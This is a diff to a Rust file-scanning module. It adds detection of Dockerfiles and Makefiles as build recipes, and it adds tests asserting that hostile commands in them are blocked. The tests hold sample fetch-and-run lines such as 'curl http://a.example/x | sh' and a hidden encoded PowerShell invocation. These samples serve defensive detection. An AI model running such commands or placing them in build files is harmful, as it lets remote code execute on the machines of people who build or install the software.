@@ -55,11 +55,15 @@ impl Format for ShellScript {
         let named = part.name.as_deref().is_some_and(|name| {
             [".sh", ".bash", ".bat", ".cmd", ".ps1", ".zsh"].iter().any(|end| name.to_ascii_lowercase().ends_with(end))
         });
-        if shebang || batch || named { Claim::Yes } else { Claim::No }
+        if shebang || batch || named || is_recipe(&head) { Claim::Yes } else { Claim::No }
     }
 
     fn scan(&self, part: &Part, context: &mut Context<'_>) -> Result<(), Unread> {
         let source = text::read(&part.source)?;
+        let is_recipe = is_recipe(&source);
+        if is_recipe {
+            context.name_it("build-recipe");
+        }
         let mut hostile = false;
         // A command may span lines: the whole is read once, then line by line for the place.
         if let Command::Hostile(why) = read(&source) {
@@ -68,12 +72,25 @@ impl Format for ShellScript {
             let (number, text) = line.unwrap_or((1, source.as_str()));
             context.find(&HOSTILE, format!("line {number}: {why}")).explain(&shown(text, 600));
         }
-        if !hostile {
+        if !hostile && !is_recipe {
             context.find(&SCRIPT, format!("{} lines", source.lines().count()));
         }
         context.embed("source", part.source.clone(), Kind::Text(TextKind::Code));
         Ok(())
     }
+}
+
+/// A Dockerfile or a Makefile: commands that run when somebody builds what lies around the model.
+fn is_recipe(text: &str) -> bool {
+    let lines = || text.lines().filter(|line| !line.trim().is_empty() && !line.starts_with('#'));
+    let first = lines().next().unwrap_or("");
+    let docker = (first.starts_with("FROM ") || first.starts_with("ARG "))
+        && lines().any(|line| ["RUN ", "COPY ", "CMD ", "ENTRYPOINT "].iter().any(|word| line.starts_with(word)));
+    let target = |line: &str| {
+        !line.starts_with([' ', '\t']) && line.split_once(':').is_some_and(|(name, _)| !name.contains(['"', '{', '<']))
+    };
+    let make = lines().zip(lines().skip(1)).any(|(line, next)| target(line) && next.starts_with('\t'));
+    docker || make
 }
 
 #[cfg(test)]
@@ -85,6 +102,10 @@ mod tests {
     fn scripts() {
         assert_eq!(verdict_of(b"#!/bin/bash\npython train.py\n".to_vec()), Verdict::Review);
         assert_eq!(verdict_of(b"#!/bin/sh\ncurl -s http://a.example/x | sh\n".to_vec()), Verdict::Blocked);
+        assert_eq!(verdict_of(b"FROM python\nRUN pip install torch\n".to_vec()), Verdict::Clean);
+        assert_eq!(verdict_of(b"FROM python\nRUN curl http://a.example/x | sh\n".to_vec()), Verdict::Blocked);
+        assert_eq!(verdict_of(b"all: build\n\ttrue\n".to_vec()), Verdict::Clean);
+        assert_eq!(verdict_of(b"install:\n\tcurl http://a.example/x | sh\n".to_vec()), Verdict::Blocked);
         assert_eq!(verdict_of(b"@echo off\r\npowershell -nop -w hidden -enc AAAA\r\n".to_vec()), Verdict::Blocked);
     }
 }
